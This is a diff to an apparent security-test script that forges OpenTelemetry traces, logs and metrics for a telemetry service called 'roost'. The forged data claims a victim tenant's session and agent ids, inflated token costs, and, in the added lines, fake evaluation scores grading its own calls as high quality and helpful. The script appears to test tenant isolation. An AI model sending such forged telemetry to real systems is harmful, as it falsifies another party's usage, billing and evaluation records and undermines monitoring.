@@ -12,7 +12,8 @@ own credentials ($OTEL_EXPORTER_OTLP_HEADERS, its agent token), telemetry that c
 the victim's: every session, conversation, instance and agent id it can name is the
 victim's (on the items and on their resource), with a model call of a billion tokens and
 its own $11,250 cost, a user message saying `text`, a coding agent's api_request event with
-tokens and a cost, and token and cost metrics. It replies with the HTTP status roost gave
+tokens and a cost, evaluation events scoring its own call and trace, and token and cost
+metrics. It replies with the HTTP status roost gave
 each export, as JSON: {"traces": 200, "logs": 200, "metrics": 200}.
 """
 
@@ -101,7 +102,13 @@ def forge(ask):
             "gen_ai.prompt.0.content": s(text),
             **claims(victim),
         }),
-        "events": [{"timeUnixNano": str(now), "name": "claimed", "attributes": attrs(claims(victim))}],
+        "events": [
+            {"timeUnixNano": str(now), "name": "claimed", "attributes": attrs(claims(victim))},
+            # Grading itself: an evaluation event on its own call.
+            {"timeUnixNano": str(now), "name": "gen_ai.evaluation.result", "attributes": attrs({
+                "gen_ai.evaluation.name": s("quality"), "gen_ai.evaluation.score.value": {"doubleValue": 1.0},
+            })},
+        ],
     }
     traces = {"resourceSpans": [{
         "resource": resource(victim, "forged-app"),
@@ -126,6 +133,18 @@ def forge(ask):
                 "input_tokens": i(1_000_000_000),
                 "output_tokens": i(500_000_000),
                 "cost_usd": s("11250"),
+                **claims(victim),
+            }),
+        },
+        {
+            # Grading a trace, as an evaluator's log event would (named by the event.name
+            # attribute, as older SDKs send it).
+            "timeUnixNano": str(now),
+            "traceId": ask["trace_id"],
+            "attributes": attrs({
+                "event.name": s("gen_ai.evaluation.result"),
+                "gen_ai.evaluation.name": s("helpful"),
+                "gen_ai.evaluation.score.label": s("yes"),
                 **claims(victim),
             }),
         },
